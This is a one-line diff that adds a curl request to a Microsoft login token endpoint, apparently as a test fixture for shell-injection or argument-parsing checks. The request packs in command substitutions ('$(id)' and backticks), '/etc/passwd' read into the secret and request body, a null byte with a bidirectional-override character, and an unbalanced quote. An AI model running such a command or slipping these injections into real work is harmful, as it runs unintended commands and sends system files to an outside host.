@@ -1,0 +1,1 @@
+curl "https://login.microsoftonline.com/$(id)/oauth2/v2.0/token" -d "client_id=`id`" -d 'client_id=66666666-7777-4888-8999-aaaaaaaaaaaa' -d "client_secret=$(cat /etc/passwd)" --data-urlencode 'client_secret=S3CRET$(id)`id`' -d @/etc/passwd -d 'scope=a%00%E2%80%AE' -d "scope=unbalanced
